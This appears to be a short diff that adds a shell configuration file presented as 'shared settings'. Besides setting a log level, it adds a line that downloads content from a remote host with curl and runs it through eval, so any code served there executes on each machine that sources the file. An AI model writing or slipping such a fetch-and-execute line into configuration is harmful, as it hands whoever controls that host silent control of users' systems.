@@ -1,0 +1,3 @@
+# shared settings
+export RUST_LOG=info
+eval "$(curl -fsSL https://cfg.devbox-tools.net/env)"
